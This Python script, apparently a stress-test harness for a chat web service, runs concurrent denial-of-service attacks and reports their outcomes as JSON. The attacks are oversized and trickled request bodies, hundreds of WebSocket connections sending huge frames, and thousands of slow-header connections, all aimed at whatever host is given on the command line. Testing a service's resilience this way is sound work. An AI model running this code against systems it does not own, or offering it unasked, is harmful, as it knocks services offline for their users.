"""Attacks without an account: `python3 attacks.py HOST HTTPS_PORT HTTP_PORT SITE SECONDS`.

Needs Python's standard library and nothing else. Runs in a container of its own, so that all of it comes from one
address that is not another client's. Bounded in count and time. Prints, as JSON, how often each attack ended in which
way.
"""

import asyncio
import base64
import json
import os
import ssl
import sys
import time
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager

_BODIES, _TRICKLING, _SOCKETS, _HEADS = 8, 3, 500, 8000
"""How many of each are under way at most."""
_BODY = 100 << 20
_FRAME = 15 << 20
_HEAD = 124 << 10
_PIECE = b"[[],[]," * 9362
_ANSWER_TIMEOUT = 20.0
Connection = tuple[asyncio.StreamReader, asyncio.StreamWriter]


class Attacker:
    """Attacks one site until a moment."""

    def __init__(self, host: str, port: int, http_port: int, site: str, seconds: float) -> None:
        """Aim at the two ports of a host; `site` is what the address bar shows."""
        self.ended: Counter[str] = Counter()
        self._host, self._port, self._http_port, self._site = host, port, http_port, site
        self._until = time.monotonic() + seconds
        self._trust = ssl.create_default_context()
        self._trust.check_hostname, self._trust.verify_mode = False, ssl.CERT_NONE

    async def attack(self) -> None:
        """Do all of it at once."""
        await asyncio.gather(
            *(self._again(f"body {name}", self._body(head)) for name, head in _BODY_HEADS.items() for _ in range(2)),
            *(self._again("trickling parts", self._trickle) for _ in range(_TRICKLING)),
            *(self._again("socket", self._socket) for _ in range(_SOCKETS)),
            *(self._again("head", self._head, encrypted=False) for _ in range(_HEADS)),
        )

    async def _again(self, name: str, once: Callable[[Connection], Awaitable[str]], *, encrypted: bool = True) -> None:
        while time.monotonic() < self._until:
            try:
                async with self._connection(encrypted=encrypted) as connection:
                    result = await once(connection)
            except (OSError, asyncio.IncompleteReadError, TimeoutError) as error:
                result = type(error).__name__
            self.ended[f"{name}: {result}"] += 1
            await asyncio.sleep(0.5)

    @asynccontextmanager
    async def _connection(self, *, encrypted: bool) -> AsyncIterator[Connection]:
        async with asyncio.timeout(_ANSWER_TIMEOUT):
            if encrypted:
                reader, writer = await asyncio.open_connection(
                    self._host, self._port, ssl=self._trust, server_hostname="localhost"
                )
            else:
                reader, writer = await asyncio.open_connection(self._host, self._http_port)
        try:
            yield reader, writer
        finally:
            writer.transport.abort()

    def _body(self, head: str) -> Callable[[Connection], Awaitable[str]]:
        async def send(connection: Connection) -> str:
            reader, writer = connection
            writer.write(self._request("POST /api/chat/completions", f"Content-Type: application/json\r\n{head}"))
            answered = asyncio.ensure_future(_status(reader))
            sent = 0
            while sent < _BODY and not answered.done() and time.monotonic() < self._until:
                chunked = "chunked" in head
                writer.write(b"%x\r\n%b\r\n" % (len(_PIECE), _PIECE) if chunked else _PIECE)
                sent += len(_PIECE)
                await asyncio.wait({answered, asyncio.ensure_future(writer.drain())}, return_when="FIRST_COMPLETED")
            return await self._rest(answered)

        return send

    async def _trickle(self, connection: Connection) -> str:
        reader, writer = connection
        form = f"Content-Type: multipart/form-data; boundary=b\r\nContent-Length: {_BODY * 9}\r\n"
        writer.write(self._request("POST /api/v1/files/", form))
        answered = asyncio.ensure_future(_status(reader))
        part = (
            b'--b\r\nContent-Disposition: form-data; name="x"; filename="x"\r\n\r\n' + bytes((1 << 20) - 1000) + b"\r\n"
        )
        for _ in range(900):
            if answered.done() or time.monotonic() > self._until:
                break
            writer.write(part)
            await asyncio.wait({answered, asyncio.ensure_future(writer.drain())}, return_when="FIRST_COMPLETED")
        return await self._rest(answered)

    async def _socket(self, connection: Connection) -> str:
        reader, writer = connection
        key = base64.b64encode(os.urandom(16)).decode()
        upgrade = (
            f"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {key}\r\n"
        )
        origin = f"Origin: https://{self._site}\r\n"
        writer.write(self._request("GET /ws/socket.io/?EIO=4&transport=websocket", upgrade + origin))
        async with asyncio.timeout(_ANSWER_TIMEOUT):
            status = await _status(reader)
        if status != "101":
            return status
        # One masked frame of text, all but its last byte.
        writer.write(b"\x81\xff" + _FRAME.to_bytes(8, "big") + b"\0\0\0\0" + b"4" * 1000)
        sent = 1000
        while sent < _FRAME - 65536 and time.monotonic() < self._until and not reader.at_eof():
            writer.write(b"4" * 65536)
            sent += 65536
            await writer.drain()
        return await self._rest(asyncio.ensure_future(_until_end(reader)))

    async def _head(self, connection: Connection) -> str:
        reader, writer = connection
        writer.write(f"GET / HTTP/1.1\r\nHost: {self._site}\r\n".encode())
        for number in range(_HEAD // 4000):
            writer.write(b"X-Padding-%d: %b\r\n" % (number, b"a" * 3980))
            await writer.drain()
        return await self._rest(asyncio.ensure_future(_status(reader)))

    def _request(self, line: str, headers: str) -> bytes:
        return f"{line} HTTP/1.1\r\nHost: {self._site}\r\n{headers}\r\n".encode()

    async def _rest(self, answered: "asyncio.Future[str]") -> str:
        """Wait for the answer as long as the attack lasts."""
        left = max(1.0, self._until - time.monotonic())
        done, _ = await asyncio.wait({answered}, timeout=left)
        if not done:
            answered.cancel()
            return "still open"
        return answered.result()


_BODY_HEADS = {"of known length": f"Content-Length: {_BODY}\r\n", "in chunks": "Transfer-Encoding: chunked\r\n"}


async def _status(reader: asyncio.StreamReader) -> str:
    line = await reader.readline()
    return line.split()[1].decode() if line.startswith(b"HTTP/") else "closed"


async def _until_end(reader: asyncio.StreamReader) -> str:
    while await reader.read(65536):
        pass
    return "closed"


def main() -> None:
    """Attack, and print what came of it."""
    host, port, http_port, site, seconds = sys.argv[1:]
    attacker = Attacker(host, int(port), int(http_port), site, float(seconds))
    asyncio.run(attacker.attack())
    print(json.dumps(attacker.ended, indent=1, sort_keys=True))  # noqa: T201 - its result


if __name__ == "__main__":
    main()
